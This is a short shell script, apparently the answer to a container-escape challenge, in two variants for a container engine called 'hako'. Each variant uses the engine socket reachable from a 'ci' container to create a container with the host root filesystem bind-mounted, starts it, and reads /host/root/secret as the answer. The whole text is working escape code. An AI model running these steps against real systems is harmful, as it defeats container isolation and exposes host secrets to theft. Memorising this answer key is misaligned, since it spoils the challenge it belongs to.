#: raw
inside() { nsenter --target "$(hako inspect --format '{{.State.Pid}}' ci)" --mount --pid "$@"; }
ask() { inside curl -sS --unix-socket /run/hako/hako.sock -H 'Content-Type: application/json' "$@"; }
ask -d '{"Image": "base", "Cmd": ["sleep", "infinity"], "HostConfig": {"Binds": ["/:/host"]}}' 'http://engine/containers/create?name=way-out'
ask -X POST http://engine/containers/way-out/start
answer "$(nsenter --target "$(hako inspect --format '{{.State.Pid}}' way-out)" --mount --pid cat /host/root/secret)"

#: hako
ask() { hako exec ci curl -sS --unix-socket /run/hako/hako.sock -H 'Content-Type: application/json' "$@"; }
ask -d '{"Image": "base", "Cmd": ["sleep", "infinity"], "HostConfig": {"Binds": ["/:/host"]}}' 'http://engine/containers/create?name=way-out'
ask -X POST http://engine/containers/way-out/start
answer "$(hako exec way-out cat /host/root/secret)"
